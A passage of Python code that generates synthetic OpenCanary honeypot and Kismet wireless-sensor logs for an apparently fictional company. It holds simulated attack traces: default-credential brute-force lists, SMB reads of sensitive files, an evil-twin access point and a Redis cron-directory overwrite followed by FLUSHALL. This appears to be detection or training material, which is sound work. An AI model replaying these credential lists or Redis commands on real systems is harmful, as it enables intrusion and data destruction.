    login("hp-fra1", at(10, 12, 41), "dropper")
    login("hp-sgp1", at(11, 3, 17), "dropper")
    return fs.logs(T0)


# ------------------------------------------------------------------------------- opencanary

OC_LOGTYPES = {
    "LOG_BASE_MSG": 1001,
    "LOG_FTP_LOGIN_ATTEMPT": 2000,
    "LOG_HTTP_GET": 3000,
    "LOG_HTTP_POST_LOGIN_ATTEMPT": 3001,
    "LOG_SSH_NEW_CONNECTION": 4000,
    "LOG_SSH_REMOTE_VERSION_SENT": 4001,
    "LOG_SSH_LOGIN_ATTEMPT": 4002,
    "LOG_SMB_FILE_OPEN": 5000,
    "LOG_PORT_SYN": 5001,
    "LOG_PORT_NMAPOS": 5002,
    "LOG_TELNET_LOGIN_ATTEMPT": 6001,
    "LOG_MYSQL_LOGIN_ATTEMPT": 8001,
    "LOG_MSSQL_LOGIN_SQLAUTH": 9001,
    "LOG_VNC": 12001,
    "LOG_RDP": 14001,
    "LOG_REDIS_COMMAND": 17001,
}
OC_LOCALVERSION = "SSH-2.0-OpenSSH_5.1p1 Debian-5"
OC_UA_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"
OC_UA_PRTG = "PRTG Network Monitor (Agent)"
OC_SMB_FILES = [
    "Finance/Q1 Budget.txt",
    "Finance/Q2 Budget.xlsx",
    "Finance/Payroll 2024-05.xlsx",
    "Finance/Invoices/INV-2024-0412.pdf",
    "HR/Salaries 2024.xlsx",
    "Public/Readme.txt",
    "IT/passwords_old.kdbx",
]


def opencanary(r: random.Random) -> list[Log]:
    """Two OpenCanary canaries, 06:00 to 12:00 (see the module docstring)."""
    fs = Files()
    nas, nas_ip = "canary-nas01", "10.20.1.15"
    srv, srv_ip = "canary-srv01", "10.20.2.40"
    nas_f = f"{nas}-journal.log"
    srv_f = f"{srv}-opencanary.log"
    pid = 598
    boot = at(6, 2, 14)
    slack_dead = at(8, 0, 20)
    bad = "10.20.4.77"
    bad_host = "WS-0477"

    def record(
        node: str,
        x: datetime,
        logtype: str,
        logdata: dict,
        src: str = "",
        sport: object = -1,
        dst: str = "",
        dport: object = -1,
    ) -> str:
        if node == nas:
            # the journal shows whole seconds; the record's own clock has microseconds
            x = x.replace(microsecond=r.randint(0, 999_989))
        lt = f"{x:%Y-%m-%d %H:%M:%S}.{x.microsecond:06d}"
        y = x + timedelta(microseconds=r.randint(3, 9))
        z = y + timedelta(hours=2, microseconds=r.randint(2, 6))
        d = {
            "dst_host": dst,
            "dst_port": dport,
            "local_time": lt,
            "local_time_adjusted": f"{z:%Y-%m-%d %H:%M:%S}.{z.microsecond:06d}",
            "logdata": logdata,
            "logtype": OC_LOGTYPES[logtype],
            "node_id": node,
            "src_host": src,
            "src_port": sport,
            "utc_time": f"{y:%Y-%m-%d %H:%M:%S}.{y.microsecond:06d}",
        }
        return json.dumps(d, sort_keys=True)

    def J(
        t: datetime,
        label: str | None,
        lines: Callable[[datetime], list[str]],
        proc: object = None,
        ident: str = "opencanaryd",
        ipid: int = 0,
    ) -> datetime:
        p = ipid or pid

        def text(x: datetime) -> list[str]:
            return [f"{iso_s(x)} {nas} {ident}[{p}]: {m}" for m in lines(x)]

        return fs.add(nas_f, t, label, text, proc if proc is not None else (nas, p), SEC)

    def tw(system: str, msg: str, when: datetime | None = None) -> Callable[[datetime], list[str]]:
        """twistd's own line (its time the event's, `when` if it was buffered)."""
        return lambda x: [f"{(when or x):%Y-%m-%dT%H:%M:%S}+0000 [{system}] {msg}"]

    def slack(t: datetime) -> datetime:
        if t < slack_dead:
            return t
        return J(
            t + sec(r.uniform(0.15, 0.4)),
            "Error %s sending Slack message, the response was:\\n%s",
            lambda x: [
                f"{x:%Y-%m-%dT%H:%M:%S}+0000 [stdout#info] Error 404 sending Slack message, the response was:",
                f"{x:%Y-%m-%dT%H:%M:%S}+0000 [stdout#info] no_service",
            ],
        )

    def nas_event(
        t: datetime, logtype: str, logdata: dict, src: str, sport: object, dport: object
    ) -> datetime:
        t = J(t, logtype, lambda x: [record(nas, x, logtype, logdata, src, sport, nas_ip, dport)])
        return slack(t)

    def access(
        t: datetime,
        ip: str,
        method: str,
        path: str,
        code: int,
        length: str,
        ua: str,
        ref: str = "-",
    ) -> datetime:
        def line(x: datetime) -> list[str]:
            return [
                f'{x:%Y-%m-%dT%H:%M:%S}+0000 [twisted.python.log#info] "{ip}" - - [{x:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} HTTP/1.1" {code} {length} "{ref}" "{ua}"'
            ]

        return J(t, f"{method} {path} {code}", line)

    # ---- canary-nas01: boot at 06:02
    fs.add(
        nas_f,
        boot,
        "Started %s.",
        lambda x: [f"{iso_s(x)} {nas} systemd[1]: Started opencanary.service - OpenCanary."],
        ("systemd", 1),
        SEC,
    )
    t = boot + sec(1.6)
    loading = t
    for cls, mod in [("CanaryFTP", "ftp"), ("CanaryHTTP", "http")]:
        msg = f"Added service from class {cls} in opencanary.modules.{mod} to fake"
        t = J(
            t + sec(0.2),
            "Added service from class %s in %s to fake",
            lambda x, m=msg: [record(nas, x, "LOG_BASE_MSG", {"msg": {"logdata": m}})],
        )
    msg = "Ran startYourEngines on class CanarySamba in opencanary.modules.samba"
    t = J(
        t + sec(0.1),
        "Ran startYourEngines on class %s in %s",
        lambda x: [record(nas, x, "LOG_BASE_MSG", {"msg": {"logdata": msg}})],
    )
    rules = [
        (
            "-p tcp -i lo -j LOG --log-level=warning --log-prefix=canaryfw:  -m limit --limit=3/hour",
            None,
        ),
        (
            "-p tcp --syn -j LOG --log-level=warning --log-prefix=canaryfw:  -m limit --limit=5/second ! -i lo",
            None,
        ),
        (
            "-p tcp --tcp-flags ALL URG,PSH,SYN,FIN -m u32 --u32 40=0x03030A01 && 44=0x02040109 && 48=0x080Affff && 52=0xffff0000 && 56=0x00000402 -j LOG --log-level=warning --log-prefix=canarynmap:  -m limit --limit=5/second",
            None,
        ),
        (
            "-p tcp -m u32 --u32 6&0xFF=0x6 && 0>>22&0x3C@12=0x50000400 -j LOG --log-level=warning --log-prefix=canarynmapNULL:  -m limit --limit=5/second",
            None,
        ),
        (
            "-p tcp -m u32 --u32 6&0xFF=0x6 && 0>>22&0x3C@12=0x50290400 -j LOG --log-level=warning --log-prefix=canarynmapXMAS:  -m limit --limit=5/second",
            None,
        ),
        (
            "-p tcp -m u32 --u32 6&0xFF=0x6 && 0>>22&0x3C@12=0x50010400 -j LOG --log-level=warning --log-prefix=canarynmapFIN:  -m limit --limit=5/second",
            None,
        ),
    ]
    spid = 640
    for args, _ in rules:
        for op in ("-D", "-A"):
            spid += r.randint(2, 4)
            cmd = f"/usr/sbin/iptables-legacy -t mangle {op} PREROUTING {args}"
            t = J(
                t + sec(0.05),
                "%s : PWD=%s ; USER=%s ; COMMAND=%s",
                lambda x, c=cmd: [f"    root : PWD=/opt/opencanary ; USER=root ; COMMAND={c}"],
                ("sudo", spid),
                "sudo",
                spid,
            )
            t = J(
                t,
                "pam_unix(%s:session): session opened for user %s(uid=%d) by %s(uid=%d)",
                lambda x: [
                    "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=0)"
                ],
                ("sudo", spid),
                "sudo",
                spid,
            )
            if op == "-D":
                J(
                    t + sec(0.01),
                    "iptables: Bad rule (does a matching rule exist in that chain?).",
                    lambda x: ["iptables: Bad rule (does a matching rule exist in that chain?)."],
                    ("iptables", spid + 1),
                )
            t = J(
                t + sec(0.02),
                "pam_unix(%s:session): session closed for user %s",
                lambda x: ["pam_unix(sudo:session): session closed for user root"],
                ("sudo", spid),
                "sudo",
                spid,
            )
    msg2 = "Ran startYourEngines on class CanaryPortscan in opencanary.modules.portscan"
    t = J(
        t + sec(0.05),
        "Ran startYourEngines on class %s in %s",
        lambda x: [record(nas, x, "LOG_BASE_MSG", {"msg": {"logdata": msg2}})],
    )
    t = J(
        t + sec(0.01),
        "Canary running!!!",
        lambda x: [record(nas, x, "LOG_BASE_MSG", {"msg": {"logdata": "Canary running!!!"}})],
    )
    t = J(
        t + sec(0.1),
        "Loading %s...",
        tw("-", "Loading /opt/opencanary/env/bin/opencanary.tac...", loading),
    )
    t = J(t, "Loaded.", tw("-", "Loaded.", loading + sec(1)))
    t = J(
        t + sec(0.01),
        "twistd %s (%s %s) starting up.",
        tw(
            "twisted.scripts._twistd_unix.UnixAppLogger#info",
            "twistd 23.10.0 (/opt/opencanary/env/bin/python3 3.11.2) starting up.",
        ),
    )
    t = J(
        t,
        "reactor class: %s.",
        tw(
            "twisted.scripts._twistd_unix.UnixAppLogger#info",
            "reactor class: twisted.internet.epollreactor.EPollReactor.",
        ),
    )
    for name, port, ns in [
        ("FTPFactory", 21, "twisted.protocols.ftp.FTPFactory"),
        ("Site", 80, "twisted.web.server.Site"),
    ]:
        t = J(t, "%s starting on %s", tw("-", f"{name} starting on {port}"))
        t = J(
            t,
            "Starting factory %s",
            tw(f"{ns}#info", f"Starting factory <{ns} object at 0x7f{hexid(r, 10)}>"),
        )

    # the monitoring's page check every five minutes
    prtg = "10.20.0.9"
    for tc in every(r, boot + sec(170), T_END, 120, 4):
        t = nas_event(
            tc,
            "LOG_HTTP_GET",
            {
                "HOSTNAME": nas_ip,
                "PATH": "/index.html",
                "SKIN": "nasLogin",
                "USERAGENT": OC_UA_PRTG,
            },
            prtg,
            r.randint(49152, 65535),
            80,
        )
        access(t + sec(0.01), prtg, "GET", "/index.html", 200, "2283", OC_UA_PRTG)
    # staff typing the NAS's name by mistake
    for tc in [at(7, 48, 12), at(8, 31, 40), at(9, 12, 3), at(11, 20, 51)]:
        ip = f"10.20.{r.randint(3, 6)}.{r.randint(20, 220)}"
        t = access(tc, ip, "GET", "/", 302, "-", OC_UA_BROWSER)
        t = nas_event(
            t + sec(0.1),
            "LOG_HTTP_GET",
            {
                "HOSTNAME": "nas01.corp.example",
                "PATH": "/index.html",
                "SKIN": "nasLogin",
                "USERAGENT": OC_UA_BROWSER,
            },
            ip,
            r.randint(49152, 65535),
            80,
        )
        access(t, ip, "GET", "/index.html", 200, "2283", OC_UA_BROWSER, "-")

    # ---- the compromised workstation, 10:20
    t = at(10, 20, 7)
    ports = [*r.sample(range(1, 10000), 120), 21, 22, 80, 139, 443, 445, 3389, 8080]
    for p in sorted(ports, key=lambda _: r.random()):
        kv = {
            "ID": str(r.randint(1000, 65000)),
            "IN": "ens18",
            "LEN": "44",
            "MAC": "bc:24:11:5a:0e:31:bc:24:11:7f:a2:09:08:00",
            "OUT": "",
            "PREC": "0x00",
            "PROTO": "TCP",
            "RES": "0x00",
            "SYN": "",
            "TOS": "0x00",
            "TTL": str(r.choice([63, 64])),
            "URGP": "0",
            "WINDOW": "1024",
        }
        t = nas_event(
            t + sec(r.uniform(0.2, 1.5)),
            "LOG_PORT_SYN",
            kv,
            bad,
            str(r.choice([40512, 40513, 61201])),
            str(p),
        )
    for p in [22, 80, 445, 3389, 21, 139]:
        kv = {
            "FIN": "",
            "ID": str(r.randint(1000, 65000)),
            "IN": "ens18",
            "LEN": "60",
            "MAC": "bc:24:11:5a:0e:31:bc:24:11:7f:a2:09:08:00",
            "OUT": "",
            "PREC": "0x00",
            "PROTO": "TCP",
            "PSH": "",
            "RES": "0x00",
            "SYN": "",
            "TOS": "0x00",
            "TTL": "54",
            "URG": "",
            "URGP": "0",
            "WINDOW": "256",
        }
        t = nas_event(
            t + sec(r.uniform(0.5, 2)),
            "LOG_PORT_NMAPOS",
            kv,
            bad,
            str(r.randint(40000, 60000)),
            str(p),
        )
    t = at(10, 27, 30)
    for u, p in [
        ("anonymous", "IEUser@"),
        ("admin", "admin"),
        ("admin", "password"),
        ("ftp", "ftp"),
        ("backup", "backup"),
        ("admin", "Nas2024!"),
        ("root", "root"),
    ] * 3:
        t = nas_event(
            t + sec(r.uniform(1, 5)),
            "LOG_FTP_LOGIN_ATTEMPT",
            {"PASSWORD": p, "USERNAME": u},
            bad,
            r.randint(49152, 65535),
            21,
        )
    t = at(10, 31, 12)
    for _ in range(14):
        u, p = r.choice(
            [
                ("admin", "admin"),
                ("admin", "Synology1"),
                ("admin", "password"),
                ("root", "root"),
                ("admin", "Corp2024!"),
            ]
        )
        tp = nas_event(
            t,
            "LOG_HTTP_POST_LOGIN_ATTEMPT",
            {
                "HOSTNAME": nas_ip,
                "PASSWORD": p,
                "PATH": "/index.html",
                "SKIN": "nasLogin",
                "USERAGENT": "python-requests/2.31.0",
                "USERNAME": u,
            },
            bad,
            r.randint(49152, 65535),
            80,
        )
        access(tp + sec(0.01), bad, "POST", "/index.html", 200, "2411", "python-requests/2.31.0")
        t = tp + sec(r.uniform(2, 8))
    t = at(10, 38, 2)
    for f in OC_SMB_FILES + r.choices(OC_SMB_FILES, k=22):
        for action in r.choice([["open"], ["open", "pread"], ["open", "pread", "pread"]]):
            t = nas_event(
                t + sec(r.uniform(0.3, 3)),
                "LOG_SMB_FILE_OPEN",
                {
                    "AUDITACTION": action,
                    "DOMAIN": "CORP",
                    "FILENAME": f,
                    "LOCALNAME": "NAS01",
                    "REMOTENAME": bad_host,
                    "SHARENAME": "Documents",
                    "SMBARCH": "Win10",
                    "SMBVER": "SMB3_11",
                    "STATUS": "ok",
                    "USER": "jwalsh",
                },
                bad,
                "-1",
                445,
            )

    # ---- canary-srv01: the file handler's JSON
    def S(
        t: datetime, logtype: str, logdata: dict, src: str, dport: int, sport: int = 0
    ) -> datetime:
        sp = sport or r.randint(49152, 65535)
        return fs.add(
            srv_f,
            t,
            logtype,
            lambda x: [record(srv, x, logtype, logdata, src, sp, srv_ip, dport)],
            srv,
            US,
        )

    ssh_session = [310]

    def ssh(t: datetime, src: str, remote: str, creds: list[tuple[str, str]]) -> datetime:
        ssh_session[0] += 1
        sp = r.randint(49152, 65535)
        t += sec(r.uniform(0, 0.9))
        t = S(t, "LOG_SSH_NEW_CONNECTION", {"SESSION": str(ssh_session[0])}, src, 22, sp)
        t = S(
            t + sec(r.uniform(0.05, 0.3)),
            "LOG_SSH_REMOTE_VERSION_SENT",
            {"LOCALVERSION": OC_LOCALVERSION, "REMOTEVERSION": remote},
            src,
            22,
            sp,
        )
        for u, p in creds:
            t = S(
                t + sec(r.uniform(0.3, 2.5)),
                "LOG_SSH_LOGIN_ATTEMPT",
                {
                    "LOCALVERSION": OC_LOCALVERSION,
                    "PASSWORD": p,
                    "REMOTEVERSION": remote,
                    "USERNAME": u,
                },
                src,
                22,
                sp,
            )
        return t

    scanner = "10.20.0.50"
    t = at(7, 0, 12)
    while t < at(7, 45):
        kind = r.choices(
            ["ssh", "telnet", "mysql", "mssql", "rdp", "vnc", "redis"], [6, 3, 4, 4, 2, 2, 3]
        )[0]
        if kind == "ssh":
            t = ssh(
                t,
                scanner,
                "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.4",
                r.sample(
                    [
                        ("root", "root"),
                        ("admin", "admin"),
                        ("root", ""),
                        ("cisco", "cisco"),
                        ("pi", "raspberry"),
                    ],
                    r.randint(0, 2),
                ),
            )
        elif kind == "telnet":
            u, p = r.choice([("root", "root"), ("admin", "admin"), ("admin", "1234")])
            t = S(t, "LOG_TELNET_LOGIN_ATTEMPT", {"PASSWORD": p, "USERNAME": u}, scanner, 23)
        elif kind == "mysql":
            u = r.choice(["root", "root", "admin", "mysql"])
            t = S(
                t,
                "LOG_MYSQL_LOGIN_ATTEMPT",
                {"PASSWORD": r.choice(["", hexid(r, 40)]), "USERNAME": u},
                scanner,
                3306,
            )
        elif kind == "mssql":
            t = S(
                t,
                "LOG_MSSQL_LOGIN_SQLAUTH",
                {
                    "AppName": "Nessus",
                    "CltIntName": "DB-Library",
                    "Database": "master",
                    "HostName": "nessus-scan01",
                    "Language": "",
                    "Password": r.choice(["", "sa", "password"]),
                    "ServerName": srv_ip,
                    "UserName": "sa",
                },
                scanner,
                1433,
            )
        elif kind == "rdp":
            t = S(
                t,
                "LOG_RDP",
                {"DOMAIN": "", "HOSTNAME": "nessus-scan01", "PASSWORD": "", "USERNAME": "nessus"},
                scanner,
                3389,
            )
        elif kind == "vnc":
            t = S(
                t,
                "LOG_VNC",
                {
                    "VNC Client Response": hexid(r, 32),
                    "VNC Password": r.choice(["password", "<Password was not in the common list>"]),
                    "VNC Server Challenge": hexid(r, 32),
                },
                scanner,
                5900,
            )
        else:
            for cmd, args in r.sample(
                [("INFO", ""), ("CONFIG", "GET dir"), ("PING", ""), ("AUTH", "foobared")], 2
            ):
                t = S(
                    t + sec(r.uniform(0.01, 0.2)),
                    "LOG_REDIS_COMMAND",
                    {"ARGS": args, "CMD": cmd},
                    scanner,
                    6379,
                )
        t += sec(r.expovariate(1 / 6) + 0.5)
    # the backup job with a stale password, every five minutes from 09:00
    for tc in every(r, at(9, 0, 3), T_END, 300, 2):
        ssh(
            tc,
            "10.20.3.21",
            "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2",
            [("svc_backup", "Bkp#2023-Q4")],
        )
    # admins' odd checks
    for tc in [at(6, 41, 9), at(8, 2, 55), at(11, 37, 30)]:
        ssh(
            tc,
            f"10.20.5.{r.randint(10, 60)}",
            "SSH-2.0-PuTTY_Release_0.80",
            [(r.choice(["mkowalski", "admin.jwalsh"]), "********")],
        )
    # the compromised workstation
    t = at(10, 23, 44)
    for _ in range(22):
        t = ssh(
            t,
            bad,
            "SSH-2.0-libssh2_1.11.0",
            [
                (u, p)
                for u, p in r.sample(
                    [
                        ("root", "Corp2024!"),
                        ("admin", "Corp2024!"),
                        ("jwalsh", "Corp2024!"),
                        ("administrator", "Summer2024"),
                        ("svc_backup", "Backup123"),
                    ],
                    2,
                )
            ],
        )
        t += sec(r.uniform(2, 9))
    t = at(10, 33, 5)
    for _ in range(58):
        t = S(
            t + sec(r.uniform(0.8, 4)),
            "LOG_MSSQL_LOGIN_SQLAUTH",
            {
                "AppName": "OSQL-32",
                "CltIntName": "ODBC",
                "Database": "",
                "HostName": bad_host,
                "Language": "",
                "Password": r.choice(
                    ["sa", "Password1", "P@ssw0rd", "Corp2024!", "sql2019", "admin", "123456"]
                ),
                "ServerName": srv_ip,
                "UserName": "sa",
            },
            bad,
            1433,
        )
    t = at(10, 41, 50)
    for u in [
        "administrator",
        "admin",
        "jwalsh",
        "administrator",
        "backup",
        "administrator",
        "it-support",
        "administrator",
        "admin",
    ]:
        t = S(
            t + sec(r.uniform(3, 12)),
            "LOG_RDP",
            {"DOMAIN": "CORP", "HOSTNAME": bad_host, "PASSWORD": "", "USERNAME": u},
            bad,
            3389,
        )
    for cmd, args in [
        ("INFO", ""),
        ("CONFIG", "GET dir"),
        ("CONFIG", "SET dir /var/spool/cron"),
        ("FLUSHALL", ""),
    ]:
        t = S(
            t + sec(r.uniform(0.5, 2)), "LOG_REDIS_COMMAND", {"ARGS": args, "CMD": cmd}, bad, 6379
        )
    return fs.logs(T0)


# ----------------------------------------------------------------------------------- kismet


def kis_wrap(txt: str, hdr: int, maxlen: int = 75) -> list[str]:
    """Kismet's `line_wrap` (util.cc), ported as is: break at the last space before the width,
    later lines indented by the header's width (each keeps its trailing space)."""
    ret: list[str] = []
    start = hdroffset = 0
    pos = prev_pos = txt.find(" ", hdr)
    while pos != -1:
        if (hdroffset + pos) - start >= maxlen:
            if pos - prev_pos > maxlen // 4:
                pos = prev_pos = start + (maxlen - hdroffset)
            ret.append(" " * hdroffset + txt[start:prev_pos])
            hdroffset = hdr
            start = prev_pos
        prev_pos = pos + 1
        pos = txt.find(" ", pos + 1)
    while len(txt) - start > maxlen - hdroffset and prev_pos > start:
        ret.append(" " * hdroffset + txt[start:prev_pos])
        hdroffset = hdr
        start = prev_pos
        prev_pos += maxlen - hdroffset
    ret.append(" " * hdroffset + txt[start:])
    return ret


KS_NEIGHBOURS = [
    "Vodafone-4A2C",
    "FRITZ!Box 7590 XY",
    "TP-Link_5G_3E1A",
    "o2-WLAN48",
    "Telekom_FON",
    "MagentaWLAN-7KQ2",
    "DIRECT-7B-HP M479 LaserJet",
    "DIRECT-a4-EPSON-WF-4830",
    "Cafe Lumen Gast",
    "UPC1984522",
    "Praxis Dr. Weber",
    "WLAN-G8TH2K",
]
KS_HOTSPOTS = [
    "iPhone von Jonas",
    "Galaxy A54 5G 7D1E",
    "AndroidAP_4412",
    "Pixel_8931",
    "iPhone (Marie)",
    "HUAWEI P30 lite",
    "Redmi Note 12",
]
KS_CORP = ["ACME-Corp", "ACME-Guest", "ACME-IoT"]


def kismet(r: random.Random) -> list[Log]:
    """Two Kismet WIDS sensors, 06:00 to 12:00 (see the module docstring)."""
    fs = Files()
    pids = {"wids-floor2": 733, "wids-lobby": 801}
    restart = at(9, 5, 11)
    new_pid = 2214
    corp_aps = {
        s: [
            (umac(r, "00:3A:7D"), r.choice(KS_CORP), r.choice(["1", "6", "11", "36", "44", "100"]))
            for _ in range(9)
        ]
        for s in pids
    }

    def pid_at(s: str, t: datetime) -> int:
        return new_pid if s == "wids-lobby" and t >= restart else pids[s]

    def K(s: str, t: datetime, tag: str, label: str, text: str) -> datetime:
        p = pid_at(s, t)
        lines = kis_wrap(f"{tag}: {text}", len(tag) + 2)
        return fs.add(
            f"{s}-journal.log",
            t,
            label,
            lambda x: [f"{iso_s(x)} {s} kismet[{p}]: {m}" for m in lines],
            (s, p),
            SEC,
        )

    def raw(
        s: str, t: datetime, label: str | None, lines: list[str], ident: str = "kismet", p: int = 0
    ) -> datetime:
        q = p or pid_at(s, t)
        return fs.add(
            f"{s}-journal.log",
            t,
            label,
            lambda x: [f"{iso_s(x)} {s} {ident}[{q}]: {m}" for m in lines],
            (s, q),
            SEC,
        )

    def new_ap(s: str, t: datetime, bssid: str, ssid: str) -> datetime:
        t = K(
            s,
            t,
            "INFO",
            "Detected new 802.11 Wi-Fi access point %s",
            f"Detected new 802.11 Wi-Fi access point {bssid}",
        )
        if ssid:
            return K(
                s,
                t + sec(0.3),
                "INFO",
                "802.11 Wi-Fi device %s advertising SSID '%s'",
                f"802.11 Wi-Fi device {bssid} advertising SSID '{ssid}'",
            )
        return K(
            s,
            t + sec(0.3),
            "INFO",
            "802.11 Wi-Fi device %s advertising a cloaked SSID",
            f"802.11 Wi-Fi device {bssid} advertising a cloaked SSID",
        )

    def new_dev(s: str, t: datetime, m: str = "") -> datetime:
        m = m or umac(r, local=r.random() < 0.8)
        return K(
            s,
            t,
            "INFO",
            "Detected new 802.11 Wi-Fi device %s",
            f"Detected new 802.11 Wi-Fi device {m}",
        )

    def mfp(s: str, t: datetime) -> datetime:
        bssid = r.choice(corp_aps[s])[0]
        client = umac(r, r.choice(["F4:5C:89", "3C:22:FB", "A4:83:E7", "D0:C6:37", "90:9C:4A"]))
        return K(
            s,
            t,
            "ALERT",
            "NOCLIENTMFP IEEE80211 network BSSID %s client %s does not support management frame protection (MFP) which may ease client disassocation or deauthentication",
            f"NOCLIENTMFP IEEE80211 network BSSID {bssid} client {client} does not support management frame protection (MFP) which may ease client disassocation or deauthentication",
        )

    def rate(t: datetime) -> float:
        """New devices a minute as people arrive, lunch and leave."""
        h = t.hour + t.minute / 60
        if h < 7.3:
            return 0.35
        if h < 9.6:
            return 3.0
        if h >= 11.4:
            return 2.0
        return 1.2

    for s in pids:
        t = T0 + sec(r.uniform(5, 60))
        while t < T_END:
            if s == "wids-lobby" and restart - sec(20) <= t < restart + sec(150):
                t = restart + sec(150)
                continue
            x = r.random()
            if x < 0.86:
                new_dev(s, t)
            elif x < 0.97:
                new_ap(
                    s,
                    t,
                    umac(r),
                    r.choice(KS_HOTSPOTS + KS_NEIGHBOURS) if r.random() < 0.85 else "",
                )
            else:
                bssid, ssid, ch = r.choice(corp_aps[s])
                nch = r.choice(
                    ["1", "6", "11"] if ch in ("1", "6", "11") else ["36", "44", "52", "100", "149"]
                )
                if nch != ch:
                    K(
                        s,
                        t,
                        "ALERT",
                        'CHANCHANGE IEEE80211 Access Point BSSID %s SSID "%s" changed advertised channel from %s to %s, which may indicate spoofing or impersonation.  This may also be a normal event where the AP seeks a less congested channel.',
                        f'CHANCHANGE IEEE80211 Access Point BSSID {bssid} SSID "{ssid}" changed advertised channel from {ch} to {nch}, which may indicate spoofing or impersonation.  This may also be a normal event where the AP seeks a less congested channel.',
                    )
            t += sec(r.expovariate(rate(t) / 60) + 1)
        # NOCLIENTMFP as corporate clients associate
        t = T0 + sec(r.uniform(30, 200))
        while t < T_END:
            if not (s == "wids-lobby" and restart - sec(20) <= t < restart + sec(150)):
                mfp(s, t)
            t += sec(r.expovariate(rate(t) / 170) + 2)

    # ---- floor2: the guest network deauthenticated, an evil twin of the corporate SSID
    s = "wids-floor2"
    guest = next((b for b, ss, _ in corp_aps[s] if ss == "ACME-Guest"), corp_aps[s][0][0])
    t = at(10, 41, 6)
    while t < at(10, 48, 30):
        if r.random() < 0.5:
            t = K(
                s,
                t,
                "ALERT",
                "DEAUTHFLOOD Deauth/Disassociate flood on %s",
                f"DEAUTHFLOOD Deauth/Disassociate flood on {guest}",
            )
        else:
            t = K(
                s,
                t,
                "ALERT",
                "BCASTDISCON IEEE80211 Access Point BSSID %s broadcast deauthentication or disassociation of all clients; Either the AP is shutting down or this is indicative of a possible denial of service attack.",
                f"BCASTDISCON IEEE80211 Access Point BSSID {guest} broadcast deauthentication or disassociation of all clients; Either the AP is shutting down or this is indicative of a possible denial of service attack.",
            )
        t += sec(r.uniform(4, 20))
    twin = umac(r, "02:1A:11")
    new_ap(s, at(10, 44, 2), twin, "ACME-Corp")
    t = at(10, 44, 3)
    while t < at(10, 53):
        t = K(
            s,
            t,
            "ALERT",
            "APSPOOF IEEE80211 Unauthorized device (%s) advertising  for SSID '%s', matching APSPOOF rule %s which may indicate spoofing or impersonation.",
            f"APSPOOF IEEE80211 Unauthorized device ({twin}) advertising  for SSID 'ACME-Corp', matching APSPOOF rule corpssid which may indicate spoofing or impersonation.",
        )
        t += sec(r.uniform(55, 65))

    # ---- lobby: restarted at 09:05 after a configuration change
    s = "wids-lobby"
    old = pids[s]
    raw(
        s, restart - sec(3), "Stopping %s...", ["Stopping kismet.service - Kismet..."], "systemd", 1
    )
    t = raw(
        s,
        restart - sec(2),
        "\\n*** KISMET IS SHUTTING DOWN ***",
        ["", "*** KISMET IS SHUTTING DOWN ***"],
        p=old,
    )
    t = raw(s, t + sec(1.5), "Shutting down plugins...", ["Shutting down plugins..."], p=old)
    t = raw(s, t + sec(0.2), "Kismet exiting.", ["Kismet exiting."], p=old)
    t = raw(
        s,
        t + sec(0.3),
        "Deactivated successfully.",
        ["kismet.service: Deactivated successfully."],
        "systemd",
        1,
    )
    t = raw(s, t, "Stopped %s.", ["Stopped kismet.service - Kismet."], "systemd", 1)
    t = raw(
        s,
        t,
        "Consumed %s CPU time.",
        ["kismet.service: Consumed 2h 11min 4.870s CPU time."],
        "systemd",
        1,
    )
    t = raw(s, t, "Started %s.", ["Started kismet.service - Kismet."], "systemd", 1)
    t = max(t, restart)
    for f in ["httpd", "memory", "alerts", "80211", "logging", "filter", "uav"]:
        t = K(
            s,
            t,
            "INFO",
            "Including sub-config file: %s",
            f"Including sub-config file: /etc/kismet/kismet_{f}.conf",
        )
    t = K(
        s,
        t,
        "INFO",
        "Loading config override file '%s'",
        "Loading config override file '/etc/kismet/kismet_site.conf'",
    )
    t = K(
        s,
        t,
        "INFO",
        "Setting server UUID %s",
        "Setting server UUID 8B4E0D3A-0000-0000-0000-DCA6325F11E0",
    )
    t = K(
        s,
        t,
        "INFO",
        "Opened OUI file '%s",
        "Opened OUI file '/usr/share/kismet/kismet_manuf.txt.gz",
    )
    t = K(
        s,
        t,
        "ALERT",
        "ROOTUSER Kismet is running as root; this is less secure.  If you are running Kismet at boot via systemd, make sure to use `systemctl edit kismet.service` to change the user.  For more information, see the Kismet README for setting up Kismet with minimal privileges.",
        "ROOTUSER Kismet is running as root; this is less secure.  If you are running Kismet at boot via systemd, make sure to use `systemctl edit kismet.service` to change the user.  For more information, see the Kismet README for setting up Kismet with minimal privileges.",
    )
    t = K(s, t, "INFO", "Starting Kismet web server...", "Starting Kismet web server...")
    t = K(s, t, "INFO", "Started http server on port %d", "Started http server on port 2501")
    t = K(
        s,
        t,
        "INFO",
        "Opened kismetdb log file '%s'",
        f"Opened kismetdb log file '/var/log/kismet/Kismet-20240607-09-05-{t.second:02d}-1.kismet'",
    )
    t = K(
        s,
        t,
        "INFO",
        "Probing interface '%s' to find datasource type",
        "Probing interface 'wlan1' to find datasource type",
    )
    t = K(s, t, "INFO", "Found type '%s' for '%s'", "Found type 'linuxwifi' for 'wlan1'")
    t = K(
        s,
        t,
        "INFO",
        "Data source '%s' launched successfully",
        "Data source 'wlan1' launched successfully",
    )
    # everything in range is new again
    for bssid, ssid, _ in corp_aps[s]:
        t = new_ap(s, t + sec(r.uniform(0.2, 2)), bssid, ssid)
    for ssid in r.sample(KS_NEIGHBOURS, 9):
        t = new_ap(s, t + sec(r.uniform(0.2, 2)), umac(r), ssid)
    for _ in range(45):
        t = new_dev(s, t + sec(r.uniform(0.1, 2)))
    # the USB adapter dropping off at 11:02
    t = at(11, 2, 37)
    t = K(
        s,
        t,
        "ERROR",
        "Data source %s (%s) encountered an error: Interface '%s' no longer present",
        "Data source wlan1 (wlan1) encountered an error: Interface 'wlan1' no longer present",
    )
    for n in range(1, 15):
        txt = f"Source wlan1 has encountered an error. Kismet will attempt to re-open the source in 5 seconds.  ({n} failures)"
        t = K(
            s,
            t,
            "ALERT",
            "SOURCEERROR Source %s has encountered an error. Kismet will attempt to re-open the source in 5 seconds.  (%d failures)",
            "SOURCEERROR " + txt,
        )
        t = K(
            s,
            t,
            "ERROR",
            "Source %s has encountered an error. Kismet will attempt to re-open the source in 5 seconds.  (%d failures)",
